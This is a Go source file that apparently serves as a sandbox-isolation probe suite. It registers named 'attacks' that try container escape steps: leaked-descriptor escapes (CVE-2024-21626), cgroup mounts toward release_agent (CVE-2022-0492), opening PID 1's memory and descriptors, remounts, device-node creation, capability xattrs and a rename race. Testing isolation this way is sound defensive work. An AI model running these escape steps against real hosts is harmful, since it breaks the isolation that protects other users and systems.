package main

import (
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	attacks["see"] = see
	attacks["write"] = write
	attacks["list"] = list
	attacks["grep"] = grep
	attacks["descriptors"] = descriptors
	attacks["init-descriptors"] = initDescriptors
	attacks["remount"] = remount
	attacks["mknod"] = mknod
	attacks["directory-descriptors"] = directoryDescriptors
	attacks["cwd-outside"] = cwdOutside
	attacks["rights"] = rights
	attacks["mount-flags"] = mountFlags
	attacks["proc-anew"] = procAnew
	attacks["cgroup-mount"] = cgroupMount
	attacks["cgroup-path"] = cgroupPath
	attacks["kernel-addresses"] = kernelAddresses
	attacks["immutable"] = immutable
	attacks["setxattr"] = setxattr
	attacks["hard-link"] = hardLink
	attacks["rename-walk"] = renameWalk
	attacks["whiteout"] = whiteout
	attacks["overlay-mount"] = overlayMount
}

// see looks for any of the paths.
func see(paths []string) (string, error) {
	var got []string
	for _, p := range paths {
		if _, err := os.Lstat(p); err == nil {
			got = append(got, p)
		}
	}
	return any(got, "none of them is there")
}

// write opens any of the paths for writing, without changing it.
func write(paths []string) (string, error) {
	var got []string
	for _, p := range paths {
		fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err == nil {
			unix.Close(fd)
		}
		if err == nil || err == unix.ETXTBSY { // it may be written, but for its being run now
			got = append(got, p)
		}
	}
	return any(got, "none can be opened for writing")
}

// list reads any of the paths: a file that has content, a directory with entries.
func list(paths []string) (string, error) {
	var got []string
	for _, p := range paths {
		if entries, err := os.ReadDir(p); err == nil && len(entries) > 0 {
			got = append(got, fmt.Sprintf("%s (%d entries)", p, len(entries)))
			continue
		}
		f, err := os.Open(p)
		if err != nil {
			continue
		}
		buf := make([]byte, 64)
		if n, err := f.Read(buf); err == nil && n > 0 {
			got = append(got, p)
		}
		f.Close()
	}
	return any(got, "nothing to read")
}

// grep looks for the words, given in hexadecimal, in everything that /proc tells
// about this process, PID 1 and the mounts.
func grep(args []string) (string, error) {
	var got, words []string
	for _, a := range args {
		w, err := hex.DecodeString(a)
		if err != nil {
			return "", err
		}
		words = append(words, string(w))
	}
	for _, who := range []string{"self", "1"} {
		for _, name := range []string{"environ", "cmdline", "maps", "cgroup", "mountinfo", "mounts", "mountstats", "status", "comm", "auxv", "stack"} {
			b, err := os.ReadFile(filepath.Join("/proc", who, name))
			if err == nil {
				got = append(got, find(who+"/"+name, string(b), words)...)
			}
		}
		links, _ := filepath.Glob(filepath.Join("/proc", who, "fd/*"))
		for _, l := range append(links, "/proc/"+who+"/exe", "/proc/"+who+"/cwd", "/proc/"+who+"/root") {
			if to, err := os.Readlink(l); err == nil {
				got = append(got, find(l, to, words)...)
			}
		}
	}
	for _, p := range []string{"/proc/mounts", "/proc/swaps", "/proc/locks", "/proc/cmdline", "/etc/mtab"} {
		if b, err := os.ReadFile(p); err == nil {
			got = append(got, find(p, string(b), words)...)
		}
	}
	return any(got, "no such word")
}

func find(where, text string, words []string) []string {
	var got []string
	for _, w := range words {
		if i := strings.Index(text, w); i >= 0 {
			got = append(got, fmt.Sprintf("%s in %s: …%q…", w, where, text[max(0, i-20):min(len(text), i+len(w)+60)]))
		}
	}
	return got
}

// descriptors looks for open files beyond the three, by number: the directory in
// /proc does not show what it does not want to.
func descriptors([]string) (string, error) {
	var got []string
	for fd := 3; fd < 4096; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil {
			continue
		}
		var buf [256]byte
		n, err := unix.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd), buf[:])
		if to := string(buf[:max(n, 0)]); err != nil || !strings.Contains(to, "cgroup") { // the Go runtime's own
			got = append(got, fmt.Sprintf("%d → %s", fd, to))
		}
	}
	return any(got, "only 0, 1 and 2")
}

// directoryDescriptors looks through every open directory for what is outside:
// runc's leaked descriptor (CVE-2024-21626).
func directoryDescriptors([]string) (string, error) {
	var root, st unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		return "", err
	}
	for fd := range 4096 {
		for _, up := range []string{".", "..", "../../../../../../../.."} {
			if unix.Fstatat(fd, up+"/root", &st, 0) == nil {
				return fmt.Sprintf("/root by descriptor %d", fd), nil
			}
			if unix.Fstatat(fd, "etc/shadow", &st, 0) == nil {
				return fmt.Sprintf("/etc/shadow by descriptor %d", fd), nil
			}
		}
	}
	return "", errors.New("no directory leads out")
}

// cwdOutside starts from the working directory instead (CVE-2024-21626).
func cwdOutside([]string) (string, error) {
	var root, st unix.Stat_t
	if err := errors.Join(unix.Stat("/", &root), unix.Stat(strings.Repeat("../", 64), &st)); err != nil {
		return "", err
	}
	if root.Dev != st.Dev || root.Ino != st.Ino {
		return "the top of the working directory is not the root", nil
	}
	wd := make([]byte, 4096)
	n, err := unix.Getcwd(wd)
	if err == nil && n > 1 && wd[0] != '/' { // "(unreachable)", getcwd(2)
		return string(wd[:n-1]), nil
	}
	return "", errors.New("the working directory is below the root")
}

// rights takes descriptors that wait in a socket (SCM_RIGHTS).
func rights([]string) (string, error) {
	for fd := range 4096 {
		control := make([]byte, 256)
		var data [16]byte
		_, cn, _, _, err := unix.Recvmsg(fd, data[:], control, unix.MSG_DONTWAIT)
		if err == nil && cn > 0 {
			return fmt.Sprintf("descriptors from the socket %d", fd), nil
		}
	}
	return "", errors.New("no socket, or nothing in it")
}

// initDescriptors opens what PID 1 holds, through the kernel's magic links.
// With the outcome file the Worker could forge its own exit code.
func initDescriptors([]string) (string, error) {
	links, _ := filepath.Glob("/proc/1/fd/*")
	var got []string
	for _, l := range links {
		for _, flags := range []int{os.O_RDWR, os.O_RDONLY, unix.O_PATH} {
			if f, err := os.OpenFile(l, flags, 0); err == nil {
				to, _ := os.Readlink(l)
				got = append(got, l+" → "+to)
				f.Close()
				break
			}
		}
	}
	if f, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0); err == nil {
		got = append(got, "/proc/1/mem")
		f.Close()
	}
	if f, err := os.OpenFile("/proc/1/exe", os.O_WRONLY, 0); err == nil || errors.Is(err, unix.ETXTBSY) {
		got = append(got, "/proc/1/exe")
		f.Close()
	}
	return any(got, "nothing of PID 1's opens")
}

// remount makes read-only places writable, and uncovers covered ones.
func remount([]string) (string, error) {
	var got []string
	for _, p := range []string{"/usr", "/proc/sys", "/run/yoi/objects", "/"} {
		if unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, "") == nil {
			got = append(got, "remounted "+p)
		}
	}
	for _, p := range []string{"/proc/sys", "/proc/kcore", "/proc", "/tmp"} {
		if unix.Unmount(p, unix.MNT_DETACH) == nil {
			got = append(got, "unmounted "+p)
		}
	}
	return any(got, "no mount changed")
}

func mknod([]string) (string, error) {
	for _, dir := range []string{"/tmp", "/scratch", "/dev", "."} {
		p := filepath.Join(dir, fmt.Sprintf("null%d", os.Getpid()))
		if err := unix.Mknod(p, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err == nil {
			defer os.Remove(p)
			if f, err := os.OpenFile(p, os.O_RDWR, 0); err == nil {
				f.Close()
				return p, nil
			}
		}
	}
	return "", errors.New("no device node can be made and opened")
}

func any(got []string, otherwise string) (string, error) {
	if len(got) == 0 {
		return "", errors.New(otherwise)
	}
	said := strings.ToValidUTF8(strings.Join(got, "; "), "?")
	return strings.ReplaceAll(said[:min(len(said), 500)], "\n", " "), nil
}

// mountFlags looks for a mount on which setuid programs (arg "nosuid") or device
// nodes ("nodev") would be such. The nodes of /dev are mounts themselves, as is
// /dev/null where it covers something.
func mountFlags(args []string) (string, error) {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return "", err
	}
	var got []string
	for line := range strings.Lines(string(b)) {
		f := strings.Fields(line)
		if len(f) > 5 && !strings.HasPrefix(f[4], "/dev") && f[3] != "/null" && !strings.Contains(","+f[5]+",", ","+args[0]+",") {
			got = append(got, f[4])
		}
	}
	return any(got, "every mount is "+args[0])
}

// procAnew mounts a second /proc, without what covers the first.
func procAnew([]string) (string, error) {
	dir := fmt.Sprintf("/tmp/proc%d", os.Getpid())
	if err := os.Mkdir(dir, 0o700); err != nil {
		return "", err
	}
	if err := unix.Mount("proc", dir, "proc", 0, ""); err != nil {
		return "", err
	}
	return dir, nil
}

// cgroupMount mounts the control groups: the way to release_agent
// (CVE-2022-0492).
func cgroupMount([]string) (string, error) {
	dir := fmt.Sprintf("/tmp/cg%d", os.Getpid())
	if err := os.Mkdir(dir, 0o700); err != nil {
		return "", err
	}
	var errs []error
	for _, m := range [][2]string{{"cgroup2", ""}, {"cgroup", "memory"}, {"cgroup", "cpu"}, {"cgroup", "none,name=x"}} {
		err := unix.Mount("none", dir, m[0], 0, m[1])
		if err == nil {
			return m[0] + " " + m[1], nil
		}
		errs = append(errs, err)
	}
	return "", errors.Join(errs...)
}

// cgroupPath looks for where the host has put it.
func cgroupPath([]string) (string, error) {
	b, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(string(b)) {
		if f := strings.SplitN(strings.TrimSpace(line), ":", 3); len(f) == 3 && f[2] != "/" {
			return line, nil
		}
	}
	return "", errors.New("every path is /")
}

// kernelAddresses looks for pointers into the kernel.
func kernelAddresses([]string) (string, error) {
	for _, p := range []string{"/proc/kallsyms", "/proc/modules", "/proc/timer_list", "/proc/self/stack"} {
		b, err := os.ReadFile(p)
		if i := strings.Index(string(b), "ffffffff"); err == nil && i >= 0 {
			return p + " has " + string(b[i:min(len(b), i+16)]), nil
		}
	}
	return "", errors.New("no address")
}

func temporary() (*os.File, error) { return os.CreateTemp("/tmp", "intruder") }

// immutable makes a file that its owner cannot remove.
func immutable([]string) (string, error) {
	f, err := temporary()
	if err != nil {
		return "", err
	}
	defer os.Remove(f.Name())
	defer f.Close()
	const immutableFlag, appendFlag = 0x10, 0x20 // FS_IMMUTABLE_FL, FS_APPEND_FL
	for _, flag := range []int{immutableFlag, appendFlag} {
		if err := unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, flag); err == nil {
			return "made immutable", unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, 0)
		}
	}
	return "", unix.EPERM
}

// setxattr sets the attribute named first on a file of its own: capabilities on
// a program, or overlayfs's own marks.
func setxattr(args []string) (string, error) {
	value := []byte("y")
	if args[0] == "security.capability" {
		value = make([]byte, 20) // struct vfs_cap_data, revision 2: every capability permitted and effective
		copy(value, []byte{1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff})
	}
	for _, dir := range []string{"/tmp", "."} {
		name := filepath.Join(dir, fmt.Sprintf("attr%d", os.Getpid()))
		if err := os.WriteFile(name, nil, 0o755); err != nil {
			continue
		}
		err := unix.Setxattr(name, args[0], value, 0)
		os.Remove(name)
		if err == nil {
			return args[0] + " in " + dir, nil
		}
	}
	return "", unix.EPERM
}

// hardLink makes a second name of what is read-only, where it may write.
func hardLink([]string) (string, error) {
	for _, from := range []string{"/usr/bin/env", "/etc/passwd", "/proc/self/exe"} {
		for _, dir := range []string{".", "/tmp", "/scratch"} {
			to := filepath.Join(dir, fmt.Sprintf("link%d", os.Getpid()))
			for _, flags := range []int{0, unix.AT_SYMLINK_FOLLOW} {
				if unix.Linkat(unix.AT_FDCWD, from, unix.AT_FDCWD, to, flags) == nil {
					os.Remove(to)
					if from != "/proc/self/exe" {
						return from + " in " + dir, nil
					}
				}
			}
		}
	}
	return "", unix.EXDEV
}

// renameWalk walks up from a directory that is moved meanwhile: with a bind mount
// whose directory is renamed away the walk misses the mount's root.
func renameWalk([]string) (string, error) {
	top, err := os.MkdirTemp(".", "walk")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(top)
	if err := errors.Join(os.MkdirAll(top+"/a/b/c/d", 0o700), os.Mkdir(top+"/x", 0o700)); err != nil {
		return "", err
	}
	var root, st unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		return "", err
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 2000 {
			_ = os.Rename(top+"/a/b/c", top+"/x/c") // the walk below is the attack
			_ = os.Rename(top+"/x/c", top+"/a/b/c")
		}
	}()
	for {
		for _, from := range []string{top + "/a/b/c/d", top + "/x/c/d"} {
			fd, err := unix.Open(from, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			err = unix.Fstatat(fd, strings.Repeat("../", 64), &st, 0)
			unix.Close(fd)
			if err == nil && (st.Dev != root.Dev || st.Ino != root.Ino) {
				return "the walk ended beyond the root", nil
			}
		}
		select {
		case <-done:
			return "", errors.New("every walk ended at the root")
		default:
		}
	}
}

// whiteout makes overlayfs's mark of a removed file, which needs no capability on
// other file systems.
func whiteout([]string) (string, error) {
	name := fmt.Sprintf("whiteout%d", os.Getpid())
	err := unix.Mknod(name, unix.S_IFCHR, 0)
	if err == nil {
		os.Remove(name)
		return name, nil
	}
	return "", err
}

// overlayMount mounts an overlay in namespaces of its own, as anybody may where there
// is nothing in the way: kernel code that root alone once reached.
func overlayMount([]string) (string, error) {
	source, target, options := append([]byte("overlay"), 0), append([]byte("/tmp"), 0), append([]byte("lowerdir=/usr:/tmp"), 0)
	address := func(b []byte) uintptr { return uintptr(unsafe.Pointer(&b[0])) }
	r, _, errno := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_NEWUSER|unix.CLONE_NEWNS|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return "", errno
	}
	if r == 0 { // one thread, in which Go's runtime does not work
		_, _, errno := unix.RawSyscall6(unix.SYS_MOUNT, address(source), address(target), address(source), 0, address(options), 0)
		unix.RawSyscall(unix.SYS_EXIT_GROUP, uintptr(errno), 0, 0)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(int(r), &ws, 0, nil); err != nil {
		return "", err
	}
	if ws.ExitStatus() != 0 {
		return "", unix.Errno(ws.ExitStatus())
	}
	return "an overlay", nil
}
